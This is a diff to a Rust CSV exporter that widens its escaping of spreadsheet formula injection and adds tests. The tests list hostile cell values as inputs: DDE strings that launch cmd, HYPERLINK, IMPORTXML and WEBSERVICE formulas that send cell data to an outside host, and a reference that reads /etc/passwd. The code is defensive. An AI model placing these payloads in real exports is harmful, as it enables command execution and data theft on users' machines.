@@ -142,9 +142,14 @@ fn is_formula(cell: &str) -> bool {
 fn is_formula_within(part: &str) -> bool {
     match first_visible(part) {
         Some('=' | '@') => true,
-        Some('+' | '-') => part.contains(CALLS) || is_sum_of_cells(part),
+        Some('+' | '-') => part.contains(CALLS) || is_in_another_file(part) || is_sum_of_cells(part),
         _ => false,
     }
+}
+
+/// Whether this part reads a cell of another file, which LibreOffice writes as `'file:///x.ods'#$Sheet1.A1`.
+fn is_in_another_file(part: &str) -> bool {
+    part.contains("'#") || part.contains("#$")
 }
 
 /// Whether this part calculates with cells of the sheet, such as `-A1*2`. A negative number doesn't, nor does a line of
@@ -158,13 +163,20 @@ fn is_sum_of_cells(part: &str) -> bool {
     });
     let mut has_cell = false;
     for operand in operands.filter(|operand| !operand.is_empty()) {
-        let is_number = operand.chars().all(|c| c.is_ascii_digit() || c == '.');
+        let is_number = is_number(operand);
         if !is_number && !is_cell_reference(operand) {
             return false;
         }
         has_cell |= !is_number;
     }
     has_cell
+}
+
+/// Whether an operand is a number, such as `2`, `2.5`, `2,5` or `1e5`.
+fn is_number(operand: &str) -> bool {
+    let plain = operand.replace(',', ".");
+    let is_plain = plain.chars().all(|c| c.is_ascii_digit() || c == '.');
+    is_plain || plain.starts_with(|c: char| c.is_ascii_digit()) && plain.parse::<f64>().is_ok()
 }
 
 /// Whether an operand is a cell or several, such as `A1`, `$A$1`, `A1:B2`, `A1#` or `A:A`.
@@ -294,6 +306,101 @@ mod tests {
         assert_eq!(text, "\"x;y\",\"x\ty\",\"x\ry\",x y,\"x\"\"y\"\r\n");
         write_row(&mut text, [String::new()]);
         assert!(text.ends_with("\r\n\"\"\r\n"));
+    }
+
+    #[test]
+    fn escapes_further_cells_that_resemble_formulas_and_no_ordinary_ones() {
+        let first = [
+            "=cmd|'/C calc'!A0",
+            "+cmd|'/C calc'!A0",
+            "-cmd|'/C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://x.example?\"&A1,\"Pay\")",
+            "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
+            "=WEBSERVICE(A1)",
+            "=DDE(\"cmd\";\"/C calc\";\"x\")",
+            " =1+1",
+            "\u{a0}\u{2003}=1",
+            "\u{0}=1",
+            "\u{b}=1",
+            "\u{1f}=1",
+            "\u{202e}=1",
+            "=",
+            "+",
+            "-",
+            "@",
+            "@user",
+            "-1-1",
+            "-12-34",
+            "-- two",
+            "==1",
+            "+-1",
+            "﹦1",
+            "⁼1",
+            "₌1",
+            "﹢1",
+            "₊1",
+            "⁺1",
+            "﹣1",
+            "﹫SUM(A1)",
+        ];
+        for cell in first {
+            assert_eq!(escape_formula(cell), format!("'{cell}"));
+            assert_eq!(as_typed(&format!("'{cell}")), cell);
+        }
+        let within = [
+            "'file:///etc/passwd'#$passwd.A1",
+            "'file:///x.ods'#Sheet1.A1",
+            "[Book1.xls]Sheet1!A1",
+            "'C:\\[b.xls]S'!A1",
+            "A1*1e5",
+            "A1*2,5",
+            "A1<>B1",
+            "A1%",
+            "A1#",
+            "@A1",
+            "A1:A",
+            "$A:$A",
+            "XFD1048576",
+            "a1",
+            "(A1)",
+            "\"a\"&B2",
+            "-A1",
+            " B22",
+        ];
+        for part in within {
+            for separator in [';', '\t', '\r', '\n'] {
+                for sign in ['+', '-'] {
+                    let cell = format!("x{separator}{sign}{part}");
+                    let escaped = format!("x{separator}'{sign}{part}");
+                    assert_eq!(escape_formula(&cell), escaped);
+                    assert_eq!(as_typed(&escaped), cell);
+                }
+            }
+        }
+        for cell in [
+            "-1",
+            "-1.5",
+            "-.5",
+            "\"=1+1\"",
+            "`=1",
+            "(=1)",
+            "x;- 5 m of pipe",
+            "x;- 2",
+            "x;-5%",
+            "x;- A4 paper",
+            "x;- B22 bulb",
+            "x;- 10 x M8",
+            "x;- item #3",
+            "x;-2,5 and 1e5",
+            "x\n--- line ---",
+            "x\n+1 tap",
+            "5 = 2 + 3",
+            "sam@example.com",
+            "2-3 days",
+        ] {
+            assert_eq!(escape_formula(cell), cell);
+        }
     }
 
     #[test]
